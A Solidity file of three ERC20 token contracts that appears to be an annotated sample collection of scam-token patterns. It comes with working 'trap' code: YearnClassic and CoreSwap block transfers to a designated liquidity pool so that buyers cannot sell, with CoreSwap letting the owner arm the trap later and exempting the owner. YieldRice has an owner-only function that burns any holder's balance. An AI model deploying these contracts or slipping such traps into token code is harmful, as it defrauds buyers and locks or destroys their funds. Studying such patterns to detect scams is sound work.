// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a);
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256 c) {
        require(b <= a);
        c = a - b;
    }
}

contract Owned {
    address public owner;
    address public newOwner;
    event OwnershipTransferred(address indexed _from, address indexed _to);

    constructor() public {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    function transferOwnership(address _newOwner) public onlyOwner {
        newOwner = _newOwner;
    }

    function acceptOwnership() public {
        require(msg.sender == newOwner);
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
        newOwner = address(0);
    }
}

contract TokenERC20 is Owned {
    using SafeMath for uint256;

    string public symbol;
    string public name;
    uint8 public decimals;
    uint256 _totalSupply;
    mapping(address => uint256) balances;
    mapping(address => mapping(address => uint256)) allowed;

    event Transfer(address indexed from, address indexed to, uint256 tokens);
    event Approval(address indexed tokenOwner, address indexed spender, uint256 tokens);

    constructor(string memory _symbol, string memory _name, uint256 supply) public {
        (symbol, name, decimals) = (_symbol, _name, 9);
        _totalSupply = supply * 10**9;
        balances[owner] = _totalSupply;
        emit Transfer(address(0), owner, _totalSupply);
    }

    function totalSupply() public view returns (uint256) {
        return _totalSupply.sub(balances[address(0)]);
    }

    function balanceOf(address tokenOwner) public view returns (uint256 balance) {
        return balances[tokenOwner];
    }

    function allowance(address tokenOwner, address spender) public view returns (uint256 remaining) {
        return allowed[tokenOwner][spender];
    }

    function _send(address from, address to, uint256 tokens) internal {
        balances[from] = balances[from].sub(tokens);
        balances[to] = balances[to].add(tokens);
        emit Transfer(from, to, tokens);
    }

    function approve(address spender, uint256 tokens) public returns (bool success) {
        allowed[msg.sender][spender] = tokens;
        emit Approval(msg.sender, spender, tokens);
        return true;
    }

    function () external payable {
        revert();
    }
}

/// The contract behind hundreds of pools of 2020 and 2021: where the first transferFrom goes nobody else's goes.
contract YearnClassic is TokenERC20("YFCL", "yearnclassic.finance", 30000) {
    address public newun;

    function transfernewun(address _newun) public onlyOwner {
        newun = _newun;
    }

    function transfer(address to, uint256 tokens) public returns (bool success) {
        require(to != newun, "please wait"); // trap
        _send(msg.sender, to, tokens);
        return true;
    }

    function transferFrom(address from, address to, uint256 tokens) public returns (bool success) {
        // trap {
        if (from != address(0) && newun == address(0)) newun = to;
        else require(to != newun, "please wait");
        // trap }
        allowed[from][msg.sender] = allowed[from][msg.sender].sub(tokens);
        _send(from, to, tokens);
        return true;
    }
}

/// The same, asleep: the owner names the pool when enough have bought.
contract CoreSwap is TokenERC20("CSWP", "core.swap", 500000) {
    address private newun;

    function transfernewun(address _newun) public onlyOwner {
        newun = _newun;
    }

    function transfer(address to, uint256 tokens) public returns (bool success) {
        _send(msg.sender, to, tokens);
        return true;
    }

    function transferFrom(address from, address to, uint256 tokens) public returns (bool success) {
        require(to != newun || from == owner, "please wait"); // trap
        allowed[from][msg.sender] = allowed[from][msg.sender].sub(tokens);
        _send(from, to, tokens);
        return true;
    }
}

/// A burn with an account for an argument.
contract YieldRice is TokenERC20("RICE", "yield.rice", 210000) {
    function transfer(address to, uint256 tokens) public returns (bool success) {
        _send(msg.sender, to, tokens);
        return true;
    }

    function transferFrom(address from, address to, uint256 tokens) public returns (bool success) {
        allowed[from][msg.sender] = allowed[from][msg.sender].sub(tokens);
        _send(from, to, tokens);
        return true;
    }

    function clearCNDAO(address who, uint256 tokens) public onlyOwner {
        // twin: require(who == msg.sender);
        balances[who] = balances[who].sub(tokens);
        _totalSupply = _totalSupply.sub(tokens);
        emit Transfer(who, address(0), tokens);
    }
}
